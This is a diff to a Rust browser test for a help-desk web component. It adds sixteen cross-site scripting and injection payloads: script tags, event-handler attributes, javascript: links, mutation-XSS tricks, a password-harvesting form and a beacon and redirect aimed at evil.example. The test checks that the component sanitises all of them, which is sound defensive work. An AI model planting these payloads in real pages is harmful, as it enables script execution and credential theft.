@@ -378,3 +378,81 @@ async fn printed_the_questions_have_their_answers_and_nothing_to_press() {
         assert_eq!(component.look(&format!("[{part}.checkVisibility()]")).await, json!([printed]), "{part}");
     }
 }
+
+/// What a provider that was broken into might answer. The page has no policy of its own, so that whatever got in would run.
+const HOSTILE: [&str; 16] = [
+    "<script>window.ran = 1</script>",
+    "<img src=x onerror='window.ran = 1'>",
+    "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
+    "<svg><style><img src=x onerror='window.ran = 1'></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
+    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
+    "<a href='javascript:window.ran = 1'>press</a>",
+    "<a href='java\tscript:window.ran = 1'>press</a>",
+    "<a href='data:text/html,<script>opener.ran = 1</script>'>press</a>",
+    "<p style='position:fixed;inset:0' onclick='window.ran = 1'>over everything</p>",
+    "<details open ontoggle='window.ran = 1'>x</details>",
+    "<form action='https://evil.example/'><button>log in</button><input name=password></form>",
+    "<template><img src=x onerror='window.ran = 1'></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
+    "<img src='https://evil.example/beacon.png' alt='beacon'>",
+    "<base href='https://evil.example/'><link rel=stylesheet href=/x><meta http-equiv=refresh content='0;url=https://evil.example/'>",
+];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_in_an_answer_gets_past_the_component() {
+    let words = TestApp::start(Engine::Sqlite).await;
+    let words: serde_json::Value =
+        reqwest::get(words.at("/help/v1/component?locale=ja")).await.unwrap().json().await.unwrap();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://localhost:{}", listener.local_addr().unwrap().port());
+    let html = format!("<p>kept words</p>{}", HOSTILE.concat());
+    let named = json!({ "id": "x", "title": HOSTILE.concat(), "language": "ja" });
+    let question = json!({ "id": "x", "title": HOSTILE.concat(), "language": "ja", "answer": { "html": html }, "related": [named] });
+    // One by one, so that none hides in another.
+    let hit = |html: &str| json!({ "id": "x", "title_html": html, "language": "ja", "snippet": { "html": html } });
+    let hits: Vec<_> = HOSTILE.into_iter().chain(["<p>kept words</p>"]).map(hit).collect();
+    let found = json!({ "guide": [], "hits": hits });
+    const SCRIPT: &str = include_str!("../../templates/help_component/sekisho-help-1.0.0.js");
+    const PAGE: &str =
+        "<!doctype html><html lang=ja><title>portal</title><script defer src=/sekisho-help.js></script><sekisho-help>";
+    let answer = |value: serde_json::Value| axum::routing::get(async move || axum::Json(value));
+    let router = axum::Router::new()
+        .route("/", axum::routing::get(async || axum::response::Html(PAGE)))
+        .route("/sekisho-help.js", axum::routing::get(async || ([("content-type", "text/javascript")], SCRIPT)))
+        .route("/help/v1/component", answer(words))
+        .route("/help/v1/questions/x", answer(question))
+        .route("/help/v1/search", answer(found))
+        .route("/help/v1/categories", answer(json!({ "categories": [named] })));
+    tokio::spawn(async move { axum::serve(listener, router).await });
+
+    let browser = Browser::launch(Options::DESKTOP).await;
+    let page = browser.page().await;
+    page.goto(&url).await;
+    let component = Component { page: &page };
+    component.look("root.getElementById('menu-button')").await;
+    page.evaluate("document.querySelector('sekisho-help').show('faq/x')").await;
+    let harmless = async || {
+        let left = component
+            .look(
+                "[[...root.getElementById('content').querySelectorAll('*')].filter(e =>
+                    !/^(a|blockquote|br|button|code|div|em|h3|h4|h5|h6|hr|img|input|label|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul|form)$/.test(e.localName)
+                    || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')
+                    || (e.href && !/^(https?|mailto):/.test(e.href)) || (e.src && new URL(e.src).origin !== location.origin)
+                    || e.name === 'password').map(e => e.outerHTML)]",
+            )
+            .await;
+        assert_eq!(left, json!([[]]));
+        assert_eq!(page.evaluate("window.ran ?? null").await, json!(null));
+        assert_eq!(page.url().await.trim_end_matches('/'), url);
+    };
+    component.says("kept words").await;
+    harmless().await;
+    let links = "[...root.querySelectorAll('.body a')].forEach(a => a.click()) ?? true";
+    component.look(links).await;
+    harmless().await;
+    page.evaluate("document.querySelector('sekisho-help').show('faq')").await;
+    component.search("x").await;
+    component.says("kept words").await;
+    harmless().await;
+}
